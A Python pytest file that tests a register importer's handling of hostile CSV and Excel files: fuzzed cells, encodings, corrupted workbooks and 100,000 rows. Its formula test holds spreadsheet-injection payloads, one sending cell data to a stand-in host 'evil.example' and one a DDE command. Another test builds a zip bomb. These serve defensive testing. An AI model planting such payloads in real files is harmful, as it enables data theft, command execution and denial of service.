"""Hostile import files: hostile text in every cell, formulas, huge cells, wrong types,
100,000 rows, both CSV encodings, empty and damaged files, a zip bomb. Never a crash:
either a ValidationError with a one-line Indonesian message (nothing written), row
problems listed by row and column (nothing written), or an import whose rows read back
equal, as the importer normalises them. Formulas are stored as the text they are and
never become live formulas in the register book written back to Excel."""

from __future__ import annotations

import csv
import itertools
import os
import re
import subprocess
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hostile_samples import FIELD, counts, hostile, one_line
from ppid_desk.errors import ValidationError
from ppid_desk.register.importer import apply, check_file
from ppid_desk.register.importer.cells import long_text, plain
from ppid_desk.reports.register_xlsx import export_register
from ppid_desk.store.models import Request

TODAY = date(2026, 11, 20)
NIK = "3201014506900001"
HEADER = ["No. Pendaftaran", "Tanggal", "Nama Pemohon", "NIK", "Alamat", "No. Telp", "Pekerjaan",
          "Informasi yang Diminta", "Tujuan Penggunaan"]
ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_numbers = itertools.count(1)


def line(number: str, name="Budi Santoso", address="Jl. Merdeka 1", information="Data anggaran", purpose="Riset",
         received="02/01/2025") -> list:
    return [number, received, name, NIK, address, "0812-3456-7890", "Guru", information, purpose]


def write_csv(path: Path, rows: list[list], encoding: str = "utf-8", delimiter: str = ";") -> Path:
    with path.open("w", newline="", encoding=encoding) as out:
        writer = csv.writer(out, delimiter=delimiter)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list], header=HEADER) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    if header:
        ws.append(header)
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def import_or_refuse(store, path: Path, figures=None):
    """The ImportResult, or None when the file or its rows were refused cleanly."""
    before = counts(store.db)
    try:
        plan = check_file(path, today=TODAY)
    except ValidationError as exc:
        one_line(exc.message, path.name)
        assert counts(store.db) == before
        return None
    for problem in plan.problems + plan.warnings:
        assert problem.line().count("\n") == 0 and len(problem.line()) < 400, problem.line()[:400]
    if plan.problems:
        with pytest.raises(ValidationError):
            apply(plan, "petugas")
        assert counts(store.db) == before
        return None
    return apply(plan, "petugas")


# --- hostile text in every cell ----------------------------------------------------------

@hostile
@given(name=FIELD, address=FIELD, information=FIELD, purpose=FIELD, bom=st.booleans())
def test_hostile_cells_in_a_csv(store, tmp_path, figures, name, address, information, purpose, bom):
    figures["hostile inputs tried: import files"] += 1
    number = f"H{next(_numbers)}/2025"
    path = write_csv(tmp_path / "lama.csv", [line(number, name, address, information, purpose)],
                     encoding="utf-8-sig" if bom else "utf-8")
    if import_or_refuse(store, path) is None:
        return
    row = Request.get(Request.number == number)
    assert row.requester.name == plain(name)
    assert (row.requester.address, row.information, row.purpose) == (
        long_text(address), long_text(information), long_text(purpose))


def test_formulas_are_stored_as_text_and_never_become_live_in_the_export(store, tmp_path, figures):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
                "=cmd|' /C calc'!A0", "#N/A"]
    # CSV: every cell is text
    rows = [line(f"F{i}/2025", name=f"{f} Budi", information=f, purpose=f, address=f) for i, f in enumerate(formulas)]
    assert import_or_refuse(store, write_csv(tmp_path / "rumus.csv", rows)).imported == len(formulas)
    # .xlsx: text that starts with "=" (a cell formatted as text) stays text ...
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    ws.append(line("X1/2025", information="=1+1"))
    ws["H2"].data_type = "s"
    ws.append(line("X2/2025", name="Ani", information="=SUM(1,2)"))  # ... a real formula is never evaluated:
    wb.save(tmp_path / "rumus.xlsx")                                  # its cached value (none here) is read
    plan = check_file(tmp_path / "rumus.xlsx", today=TODAY)
    assert [(p.row, p.column) for p in plan.problems] == [(3, "Informasi yang Diminta")]
    ws.delete_rows(3)
    wb.save(tmp_path / "rumus.xlsx")
    assert import_or_refuse(store, tmp_path / "rumus.xlsx").imported == 1

    stored = {r.number: r for r in Request.select()}
    for i, formula in enumerate(formulas):
        row = stored[f"F{i}/2025"]
        assert (row.information, row.purpose, row.requester.address) == (formula, formula, formula)
    assert stored["X1/2025"].information == "=1+1"

    path = tmp_path / "register.xlsx"
    export_register(path)
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    back = {r[0]: r for r in openpyxl.load_workbook(path).active.iter_rows(min_row=7, values_only=True)}
    for i, formula in enumerate(formulas):
        assert back[f"F{i}/2025"][6:8] == (formula, formula)
    assert back["X1/2025"][6] == "=1+1"
    figures["hostile inputs tried: import files"] += len(formulas) + 2


def test_huge_cells_and_wrong_types(store, tmp_path, figures):
    huge = "Rincian " * 12_500  # 100,000 characters
    rows = [
        line("W1/2025", name="x" * 100_000),                     # too long: a row problem
        line("x" * 100_000),
        [True, "kemarin", 3.14, 1234567890123456.0, datetime(2025, 1, 2), False, None, datetime(2025, 1, 3), 0],
        [12, 45658.5, 42, None, None, None, None, "Data", "Riset"],  # a running number, an Excel serial date
        [None, None, None, None, None, None, None, None, None],
        ["W5/2025", "31/02/2025", "Ani", NIK, None, None, None, "Data", "Riset"],  # no such day
        ["W6/2025", "02/01/1999", "Ani", NIK, None, None, None, "Data", "Riset"],  # before UU 14/2008
        ["W7/2025", "02/01/2099", "Ani", NIK, None, None, None, "Data", "Riset"],  # in the future
    ]
    assert import_or_refuse(store, write_xlsx(tmp_path / "aneh.xlsx", rows)) is None
    plan = check_file(tmp_path / "aneh.xlsx", today=TODAY)
    assert {p.row for p in plan.problems} >= {2, 3, 4, 7, 8, 9}
    # a cell as long as Excel allows (32,767 characters), and 100,000 in a CSV, go in whole
    result = import_or_refuse(store, write_xlsx(tmp_path / "panjang.xlsx", [line("W9/2025", information=huge[:32767])]))
    assert result.imported == 1
    assert Request.get(Request.number == "W9/2025").information == huge[:32767].strip()
    assert import_or_refuse(store, write_csv(tmp_path / "panjang.csv", [line("W10/2025", information=huge)])).imported
    assert Request.get(Request.number == "W10/2025").information == huge.strip()
    figures["hostile inputs tried: import files"] += len(rows) + 2


# --- encodings, empty and damaged files ---------------------------------------------------

@pytest.mark.parametrize("encoding, names", [
    ("utf-8", ["\u0645\u062d\u0645\u062f \u0639\u0628\u062f \u0627\u0644\u0644\u0647", "\u05e9\u05dc\u05d5\u05dd",
               "Wayan \U0001f33a", "Nguy\u1ec5n Th\u1ecb \u00c1nh"]),
    ("utf-8-sig", ["\u0645\u062d\u0645\u062f \u0639\u0628\u062f \u0627\u0644\u0644\u0647", "Wayan \U0001f33a"]),
    ("cp1252", ["Jos\u00e9 \u00d1\u00fa\u00f1ez", "Caf\u00e9 \u2013 \u20ac5 \u201ckutip\u201d", "Ren\u00e9e \u00c6\u00f8"]),
])
def test_both_csv_encodings(store, tmp_path, figures, encoding, names):
    rows = [line(f"E{encoding}{i}/2025", name=n, information=f"Data {n}") for i, n in enumerate(names)]
    for delimiter in (";", ",", "\t"):
        Request.delete().where(Request.number.startswith("E")).execute()
        path = write_csv(tmp_path / f"enc-{len(delimiter)}.csv", rows, encoding, delimiter)
        assert import_or_refuse(store, path).imported == len(names)
        assert sorted(r.requester.name for r in Request.select().where(Request.number.startswith("E"))) \
            == sorted(names)
    figures["hostile inputs tried: import files"] += 3


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _rezip(good: Path, path: Path, member: str, change) -> Path:
    with zipfile.ZipFile(good) as source:
        return _zip(path, {i.filename: (change(source.read(i.filename)) if i.filename == member
                                        else source.read(i.filename)) for i in source.infolist()})


def test_empty_and_damaged_files_get_a_clear_message(store, tmp_path, figures):
    good = write_xlsx(tmp_path / "baik.xlsx", [line(f"{i}/D/2025") for i in range(300)])
    data = good.read_bytes()
    empty_sheet = openpyxl.Workbook()
    empty_sheet.save(tmp_path / "lembar-kosong.xlsx")
    files = {
        "kosong.csv": b"", "spasi.csv": b"\n \n\t\n", "judul-saja.csv": ";".join(HEADER).encode(),
        "kosong.xlsx": b"", "acak.xlsx": os.urandom(4096), "teks.xlsx": b"No;Tanggal\n1;2\n",
        "terpotong.xlsx": data[: len(data) // 2], "bukan-buku.xlsx": None, "gambar.csv": b"\x89PNG\r\n\x1a\n" + os.urandom(2000),
        "biner.txt": os.urandom(2000), "tanpa-akhiran": b"abc", "lama.xls": b"\xd0\xcf\x11\xe0" + os.urandom(100),
        "dokumen.docx": b"PK\x03\x04", "lembar-kosong.xlsx": None, "judul-saja.xlsx": None,
        "lembar-rusak.xlsx": None, "lembar-rusak-di-tengah.xlsx": None, "gaya-rusak.xlsx": None,
        "buku-rusak.xlsx": None, "kolom-mustahil.xlsx": None,
    }
    _zip(tmp_path / "bukan-buku.xlsx", {"halo.txt": b"halo"})
    write_xlsx(tmp_path / "judul-saja.xlsx", [])
    sheet = "xl/worksheets/sheet1.xml"
    _rezip(good, tmp_path / "lembar-rusak.xlsx", sheet, lambda b: b"<worksheet><sheetData><row")
    _rezip(good, tmp_path / "lembar-rusak-di-tengah.xlsx", sheet, lambda b: b[: len(b) * 2 // 3])
    _rezip(good, tmp_path / "gaya-rusak.xlsx", "xl/styles.xml", lambda b: b"<styleSheet><<<")
    _rezip(good, tmp_path / "buku-rusak.xlsx", "xl/workbook.xml", lambda b: b"sampah")
    _rezip(good, tmp_path / "kolom-mustahil.xlsx", sheet, lambda b: b.replace(b'r="A5"', b'r="ZZZZZZ5"'))
    (tmp_path / "folder.xlsx").mkdir()
    outcomes = {}
    for name, content in [*files.items(), ("folder.xlsx", None), ("tidak-ada.csv", None)]:
        path = tmp_path / name
        if content is not None:
            path.write_bytes(content)
        before = counts(store.db)
        try:
            plan = check_file(path, today=TODAY)
        except ValidationError as exc:
            outcomes[name] = one_line(exc.message, name)
        else:
            outcomes[name] = f"{len(plan.rows)} rows, {len(plan.problems)} problems"
            assert not plan.rows, name
        assert counts(store.db) == before
    refused = [n for n, o in outcomes.items() if "rows," not in o]
    assert len(refused) >= len(outcomes) - 2, outcomes  # "judul-saja": a header and nothing under it
    assert "rusak" in outcomes["lembar-rusak-di-tengah.xlsx"]
    figures["hostile inputs tried: import files"] += len(outcomes)


def test_a_zip_bomb_is_refused_at_once(store, tmp_path, figures):
    """0.9 MB that unpack to 300 MB of rows: refused before it is read."""
    row = b'<row r="9"><c r="A9" t="inlineStr"><is><t>x</t></is></c></row>' * 16_000
    good = write_xlsx(tmp_path / "baik.xlsx", [line("1/B/2025")])
    path = tmp_path / "bom.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(item.filename, source.read(item.filename))
        with bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(300_000_000 // len(row)):
                sheet.write(row)
            sheet.write(b"</sheetData></worksheet>")
    assert path.stat().st_size < 2_000_000
    started = datetime.now()
    with pytest.raises(ValidationError) as caught:
        check_file(path, today=TODAY)
    assert (datetime.now() - started).total_seconds() < 2
    assert one_line(caught.value.message).startswith("Berkas bom.xlsx terlalu besar untuk diimpor (")
    figures["hostile inputs tried: import files"] += 1


# --- 100,000 rows ---------------------------------------------------------------------------

def test_100000_rows_in_sane_time_and_memory(tmp_path, figures):
    done = subprocess.run([sys.executable, str(Path(__file__).with_name("import_100k.py")), "csv", "100000",
                           str(tmp_path)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    found = dict(re.findall(r"(\w+)=([\d.]+)", done.stdout))
    print(f"\n100,000-row CSV: {done.stdout.strip()}")
    assert int(found["imported"]) == 100_000 and int(found["problems"]) == 0
    assert float(found["check"]) + float(found["apply"]) < 90
    assert float(found["peak_mb"]) < 1024
    figures["import of 100,000 CSV rows: seconds (check + apply)"] = round(float(found["check"])
                                                                          + float(found["apply"]))
    figures["import of 100,000 CSV rows: peak memory MB"] = int(float(found["peak_mb"]))
